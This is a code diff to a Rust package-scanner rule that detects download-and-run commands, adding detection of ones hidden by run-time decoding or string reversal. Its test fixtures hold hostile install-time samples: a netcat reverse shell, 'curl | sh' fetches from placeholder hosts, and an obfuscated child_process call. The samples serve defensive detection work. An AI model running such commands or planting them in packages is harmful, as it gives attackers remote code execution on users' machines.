@@ -9,7 +9,10 @@ crate::declare_rule! {
     /// Downloads code and runs it in one go: `curl … | sh`, `wget -O- … | bash`, PowerShell
     /// download cradles (`IEX (New-Object Net.WebClient).DownloadString`, `iwr … | iex`),
     /// `powershell -EncodedCommand` (decoded and checked), `certutil -urlcache` or `bitsadmin`
-    /// downloads followed by execution, `regsvr32 /i:http`. Critical at install time.
+    /// downloads followed by execution, `regsvr32 /i:http`. Critical at install time, and when
+    /// such a command is the argument of a real process start but appears nowhere in the source
+    /// as written (decoded, reversed or assembled at run time) in code run on install or import
+    /// or decoded from a payload.
     id: "shell-download-exec",
     category: Exec,
     severity: High,
@@ -24,6 +27,7 @@ crate::declare_rule! {
            r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.4 4444 > /tmp/f"}}"#,
            r#"{"name":"a","version":"1.0.0","scripts":{"install":"python3 -c \"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\""}}"#,
            "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"gypfile\":true}\n=== binding.gyp\n{\"targets\":[{\"target_name\":\"a\",\"variables\":{\"x\":\"<!(sh -c 'curl -fsSL http://198.51.100.23/k.sh | sh; echo 1')\"}}]}",
+           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"main\":\"index.js\"}\n=== index.js\nconst r = (s) => s.split('').reverse().join(''); const m = require(r('ssecorp_dlihc')); m[r('cexe')](r('hs | h/tset.x//:ptth Ls- lruc'), () => {})",
            "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== .yarnrc.yml\nyarnPath: .yarn/releases/yarn-4.1.0.cjs\n=== .yarn/releases/yarn-4.1.0.cjs\nrequire('child_process').spawn('/bin/sh', ['-c', 'curl -fsSL https://x.example/r | sh'], { detached: true })"],
     pass: [r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"node install.js"}}"#,
            "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== README.md\nInstall with `curl -fsSL https://get.example.sh | sh`",
@@ -150,6 +154,36 @@ fn check(pkg: &Package, out: &mut Emitter) {
                     break;
                 }
             }
+        }
+        // The command is the argument of a real process start but is nowhere in the source as
+        // written: decoded, reversed or assembled at run time. Hiding a download-and-run from
+        // readers is no installer's habit.
+        let hidden = f.js.as_ref().and_then(|js| {
+            js.calls
+                .iter()
+                .filter(|c| super::is_spawn(&c.path))
+                .flat_map(|c| c.args.iter().take(2).map(move |a| (c.off, a)))
+                .filter_map(|(off, a)| Some((off, a.lit.as_deref()?)))
+                .find_map(|(off, cmd)| {
+                    let m = pipe.find(cmd).or_else(|| cradle.find(cmd))?;
+                    (!f.text.contains(m.as_str()) && f.script.is_none())
+                        .then(|| (off, m.as_str().to_string()))
+                })
+        });
+        if let Some((off, m)) = hidden
+            && (pkg.is_install_file(f)
+                || pkg.is_entry_file(f)
+                || f.js.as_ref().is_some_and(|j| !j.decoded_code.is_empty()))
+        {
+            out.hit_ev(
+                Severity::Critical,
+                pkg,
+                f,
+                off,
+                "runs a download-and-run command it hides from the source (decoded or assembled at run time)",
+                m,
+            );
+            continue;
         }
         if let Some((off, m)) = found {
             out.hit_ev(sev, pkg, f, off, "downloads code and runs it", m);
